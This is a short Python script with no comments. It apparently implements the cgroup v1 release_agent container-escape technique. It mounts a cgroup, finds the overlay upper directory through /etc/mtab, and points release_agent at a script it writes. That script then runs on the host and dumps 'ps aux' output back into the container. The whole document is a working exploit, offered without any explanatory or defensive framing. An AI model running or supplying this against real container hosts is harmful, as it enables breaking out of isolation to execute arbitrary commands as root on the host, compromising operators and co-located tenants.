import os

cg = "/tmp/cg"
os.makedirs(cg, exist_ok=True)
os.system(f"mount -t cgroup -o rdma cgroup {cg} && mkdir -p {cg}/x")
open(f"{cg}/x/notify_on_release", "w").write("1")
up = [p for p in open("/etc/mtab").read().split(",") if p.startswith("upperdir=")][0][9:]
open(f"{cg}/release_agent", "w").write(up + "/cmd")
with open("/cmd", "w") as f:
    f.write("#!/bin/sh\nps aux > " + up + "/out\n")
os.chmod("/cmd", 0o755)
os.system(f"sh -c 'echo $$ > {cg}/x/cgroup.procs'")
